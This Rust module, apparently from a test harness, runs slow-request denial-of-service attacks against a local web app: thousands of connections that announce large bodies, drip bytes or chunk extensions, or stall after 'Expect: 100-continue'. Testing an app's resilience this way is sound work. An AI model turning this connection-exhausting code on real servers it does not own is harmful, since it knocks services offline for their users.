//! Request bodies that are announced and arrive slowly, or never.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use crate::attack::Attack;
use crate::attacks::requests::{file, head, post};
use crate::stage::{Play, Stage, crowd, hold, ready};

const KIND: &str = "bodies";
/// Number of slow connections.
const MANY: usize = 2_000;

/// Attacks of this kind.
pub const ATTACKS: &[Attack] = &[
    Attack::new(
        "announced-length",
        KIND,
        "2 users announce imports of 192 MiB over 4 connections each and send a byte a second, while a third imports a small file \
         twice a second",
        |stage| Box::pin(announced_length(stage)),
    ),
    Attack::variation(
        "dripping-bodies",
        KIND,
        "2,000 connections announce a sign-in of 60,000 bytes and send a byte a second",
        |stage| ready(dripping_bodies(stage)),
    ),
    Attack::variation(
        "dripping-chunks",
        KIND,
        "2,000 connections send a sign-in in chunks of a byte, each with an extension of 200 bytes, one every second",
        |stage| ready(dripping_chunks(stage)),
    ),
    Attack::variation(
        "awaited-continue",
        KIND,
        "2,000 connections ask whether they may send a body (`Expect: 100-continue`), send half of it and wait",
        |stage| ready(awaited_continue(stage)),
    ),
];

async fn announced_length(stage: Stage) -> anyhow::Result<Play> {
    let people = stage.people(2).await?;
    let third = Arc::new(stage.person().await?);
    let more = "Content-Type: application/json\r\nContent-Length: 201326592\r\n";
    let heads: Vec<_> = people
        .iter()
        .map(|person| head("POST", &format!("{}/import", person.tasks()), person, more))
        .collect();
    let heads = Arc::new(heads);
    Ok(crowd(9, move |number| {
        let (stage, heads, third) = (stage.clone(), Arc::clone(&heads), Arc::clone(&third));
        async move {
            if number == 8 {
                let small = post(&stage, &third, "/import", file(1, "small")).send().await;
                let status = small.map_or(0, |answer| answer.status().as_u16());
                stage.hear(&format!("small import {status}"));
                tokio::time::sleep(Duration::from_millis(500)).await;
            } else if let Some(head) = heads.get(number % 2) {
                drip(&stage, head, b"{").await;
            }
        }
    }))
}

fn dripping_bodies(stage: Stage) -> Play {
    let head = b"POST /api/auth/signin HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{";
    dripping(stage, head, b" ")
}

fn dripping_chunks(stage: Stage) -> Play {
    let head = b"POST /api/auth/signin HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
    let chunk = format!("1;{}\r\n \r\n", "e".repeat(200));
    dripping(stage, head, chunk.as_bytes())
}

fn awaited_continue(stage: Stage) -> Play {
    let mut bytes = b"POST /api/auth/signin HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nExpect: 100-continue\r\nContent-Length: 60000\r\n\r\n".to_vec();
    bytes.extend(vec![b' '; 30_000]);
    let bytes = Arc::new(bytes);
    crowd(MANY, move |_| {
        let (stage, bytes) = (stage.clone(), Arc::clone(&bytes));
        async move {
            let Some(connection) = stage.connect_and_send(&bytes).await else { return };
            stage.hear("sent half");
            hold().await;
            drop(connection);
        }
    })
}

fn dripping(stage: Stage, head: &[u8], drop: &[u8]) -> Play {
    let (head, drop): (Arc<[u8]>, Arc<[u8]>) = (head.into(), drop.into());
    crowd(MANY, move |_| {
        let (stage, head, drop) = (stage.clone(), Arc::clone(&head), Arc::clone(&drop));
        async move { drip(&stage, &head, &drop).await }
    })
}

/// Sends the head, then one piece a second until the server responds or closes.
pub async fn drip(stage: &Stage, head: &[u8], drop: &[u8]) {
    let Some(mut connection) = stage.connect_and_send(head).await else { return };
    stage.hear("begun");
    while is_open(&connection) && connection.write_all(drop).await.is_ok() {
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    stage.hear("closed");
}

/// Returns true if the server has neither responded nor closed.
fn is_open(connection: &TcpStream) -> bool {
    let mut byte = [0];
    connection
        .try_read(&mut byte)
        .is_err_and(|error| error.kind() == std::io::ErrorKind::WouldBlock)
}
